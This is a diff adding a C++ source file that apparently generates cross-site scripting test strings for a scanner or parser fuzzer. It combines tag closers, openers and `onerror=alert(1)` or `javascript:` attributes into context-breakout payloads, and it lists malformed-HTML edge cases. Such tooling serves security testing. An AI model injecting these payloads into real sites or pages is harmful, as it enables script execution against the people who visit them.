@@ -1,0 +1,281 @@
+#include "core/holes/payloads.h"
+
+#include <fmt/core.h>
+
+namespace specdrift::holes {
+namespace {
+
+using namespace std::string_view_literals;
+
+/// What ends a construct.
+constexpr std::string_view closers[] = {"-->",
+                                        ">",
+                                        "\">",
+                                        "'>",
+                                        "--!>",
+                                        "]]>",
+                                        "?>",
+                                        "</script>",
+                                        "</style>",
+                                        "</title>",
+                                        "</textarea>",
+                                        "</xmp>",
+                                        "</noscript>",
+                                        "</iframe>",
+                                        "</noembed>",
+                                        "</noframes>",
+                                        "->",
+                                        "--->",
+                                        " -->",
+                                        "%>",
+                                        "z>",
+                                        "=>",
+                                        "`>",
+                                        ";",
+                                        "</script/>",
+                                        "</title x>",
+                                        "</svg>",
+                                        "-->z</title>",
+                                        "-->z</style>",
+                                        "-->z</script>",
+                                        "</script>-->z</script>"};
+
+/// What opens one.
+constexpr std::string_view openers[] = {"<a ",
+                                        "<a b=\"",
+                                        "<a b='",
+                                        "<a b=",
+                                        "<!--",
+                                        "<svg>",
+                                        "<math>",
+                                        "<svg><style>",
+                                        "<math><style>",
+                                        "<title>",
+                                        "<textarea>",
+                                        "<style>",
+                                        "<script>",
+                                        "<script><!--",
+                                        "<script><!--<script>",
+                                        "<xmp>",
+                                        "<iframe>",
+                                        "<noscript>",
+                                        "<noembed>",
+                                        "<select>",
+                                        "<svg><![CDATA[",
+                                        "<img src=x onerror=alert(1) ",
+                                        "<a href=\"javascript:"};
+
+constexpr std::string_view attributes[] = {
+    " onerror=alert(1)",           " onerror=alert(1)>",       "/onerror=alert(1)>",
+    "\" onerror=alert(1) b=\"\">", "' onerror=alert(1) b=''>", "\"onerror=alert(1)>",
+    "=\" onerror=alert(1) \">",    "=' onerror=alert(1) '>",   "b=\" onerror=alert(1) \">",
+    "onerror=alert(1)>",           "`onerror=alert(1) `>",     ">\" onerror=alert(1)>",
+    " href=javascript:alert(1)>"};
+
+/// After what opens a construct, these alone.
+constexpr std::string_view few_closers[] = {
+    "", ">", "-->", "\">", "'>", "]]>", "</script>", "</style>", "</title>", "</textarea>"};
+constexpr std::string_view few_attributes[] = {" onerror=alert(1)>", "\" onerror=alert(1) b=\"\">",
+                                               "' onerror=alert(1) b=''>", "\">", ">"};
+
+std::vector<Continuation> make() {
+  std::vector<Continuation> all;
+  const auto add = [&](std::string_view before, std::string after) {
+    all.push_back({std::string(before), std::move(after)});
+  };
+  // Those that notice most.
+  add("", "");
+  add("", std::string(payload));
+  for (const std::string_view closer : {"-->"sv, ">"sv, "\">"sv, "</title>"sv})
+    add("", fmt::format("{}{}", closer, payload));
+  add("", fmt::format("<a title=\"-->{}\">", payload));
+  add("", " onerror=alert(1)>");
+  add("", "z>z<u>");
+
+  for (const std::string_view closer : closers) add("", fmt::format("{}{}", closer, payload));
+  for (const std::string_view attribute : attributes) add("", std::string(attribute));
+  for (const std::string_view closer : closers) {
+    const bool ends_value = closer.find('"') != closer.npos;
+    add("", fmt::format("<a title={0}{1}{2}{0}>", ends_value ? '\'' : '"', closer, payload));
+  }
+  for (const std::string_view closer : closers) {
+    if (closer.find("->") == closer.npos) add("", fmt::format("<!--{}{}-->", closer, payload));
+    add("", fmt::format("<style>{}{}</style>", closer, payload));
+  }
+  add("", fmt::format("<!--{}-->", payload));
+  add("", fmt::format("<title>{}</title>", payload));
+  add("", fmt::format("<script>{}</script>", payload));
+  for (const std::string_view opener : openers) {
+    for (const std::string_view closer : few_closers)
+      add(opener, fmt::format("{}{}", closer, payload));
+    for (const std::string_view attribute : few_attributes) add(opener, std::string(attribute));
+  }
+  return all;
+}
+
+constexpr std::string_view rules[] = {"<!-->",
+                                      "<!--->",
+                                      "<!--a--!>",
+                                      "<!--a--!",
+                                      "<!--a-- >",
+                                      "<!--a--\n>",
+                                      "<!--a->",
+                                      "<!--a<!--",
+                                      "<!--a<!-->",
+                                      "<!----->",
+                                      "<!--->a",
+                                      "<!---!>",
+                                      "<!-a>",
+                                      "<!->",
+                                      "<!>",
+                                      "<!",
+                                      "<!a>",
+                                      "<!a\">\">",
+                                      "<!DOCTYPE a \">\">",
+                                      "<!DOCTYPE a [<!ENTITY b \"",
+                                      "<!ELEMENT a \"",
+                                      "<![CDATA[",
+                                      "<![CDATA[>",
+                                      "<![a[",
+                                      "<![if a]>",
+                                      "<!--[if a]>",
+                                      "<?",
+                                      "<?a",
+                                      "<?a \">\"",
+                                      "<?php \"?>\"",
+                                      "<%",
+                                      "<%a %>",
+                                      "</",
+                                      "</>",
+                                      "</ a>",
+                                      "</1>",
+                                      "</a b=\">\">",
+                                      "</a/>",
+                                      "</a<",
+                                      "<",
+                                      "<>",
+                                      "< a>",
+                                      "<1>",
+                                      "<a<b>",
+                                      "<a\f",
+                                      "<a/",
+                                      "<a/b",
+                                      "<a//",
+                                      "<a b=c\"",
+                                      "<a b=\"c\"d",
+                                      "<a b=\"c\"/",
+                                      "<a b='c'd=",
+                                      "<a b=\"\"\"",
+                                      "<a b==",
+                                      "<a =b",
+                                      "<a \"b\"",
+                                      "<a 'b'",
+                                      "<a \"",
+                                      "<a '",
+                                      "<a b\"",
+                                      "<a b=`c",
+                                      "<a b = \"",
+                                      "<a b\n=\n\"",
+                                      "<a b=c>\"",
+                                      "<a b/=\"",
+                                      "<a b=/",
+                                      "<a b=\"c\" \"",
+                                      "<a <b>",
+                                      "<a b=<",
+                                      "<a:b",
+                                      "<a b:c=\"",
+                                      "<a\x0b",
+                                      "<a b=\"\n\"c",
+                                      "<A B=\"",
+                                      "<a b='\"",
+                                      "<a b=\"'",
+                                      "<a/b=\"",
+                                      "<a b=\"/>",
+                                      "<script>",
+                                      "<script>a</script",
+                                      "<script></script/",
+                                      "<script></script\f",
+                                      "<script></script x=\"",
+                                      "<script><!--",
+                                      "<script><!--</script>",
+                                      "<script><!--<script>",
+                                      "<script><!--<script></script>",
+                                      "<style>",
+                                      "<style></style/",
+                                      "<style></style x=\"",
+                                      "<style></style\f",
+                                      "<style><!--",
+                                      "<style><!--</style>",
+                                      "<title>",
+                                      "<title></title/",
+                                      "<title></title x=\"",
+                                      "<title></title\f",
+                                      "<title><!--",
+                                      "<title><!--</title>",
+                                      "<title></titles>",
+                                      "<textarea>",
+                                      "<textarea></textarea/",
+                                      "<textarea></textarea x=\"",
+                                      "<textarea><!--</textarea>",
+                                      "<xmp>",
+                                      "<xmp></xmp x=\"",
+                                      "<iframe>",
+                                      "<iframe></iframe x=\"",
+                                      "<noembed>",
+                                      "<noframes>",
+                                      "<noscript>",
+                                      "<noscript><!--",
+                                      "<plaintext>",
+                                      "<listing>",
+                                      "<svg>",
+                                      "<svg><style>",
+                                      "<svg><style><!--",
+                                      "<svg><title>",
+                                      "<svg><script>",
+                                      "<svg></p>",
+                                      "<svg><p>",
+                                      "<svg><![CDATA[",
+                                      "<svg><![CDATA[>",
+                                      "<svg><![CDATA[]]>",
+                                      "<math>",
+                                      "<math><style>",
+                                      "<math><mtext><style>",
+                                      "<math><![CDATA[",
+                                      "<svg><foreignObject><style>",
+                                      "<select>",
+                                      "<select><style>",
+                                      "<table><style>",
+                                      "<template>",
+                                      "<frameset>",
+                                      "<title/>",
+                                      "<script/>",
+                                      "<style/>",
+                                      "<textarea/>",
+                                      "<svg/>",
+                                      "<svg><style/>",
+                                      "<svg><a title=\"",
+                                      "&lt;",
+                                      "&#60;",
+                                      "&#x3c",
+                                      "&lt",
+                                      "<a b=\"&quot;",
+                                      "<a b=&quot;",
+                                      "<a b=\"&#34;",
+                                      "<a b=&gt;"};
+
+}  // namespace
+
+std::span<const Continuation> continuations() {
+  static const std::vector<Continuation> all = make();
+  return all;
+}
+
+std::size_t screening_continuations() {
+  return 9;
+}
+
+std::span<const std::string_view> own_rules() {
+  return rules;
+}
+
+}  // namespace specdrift::holes
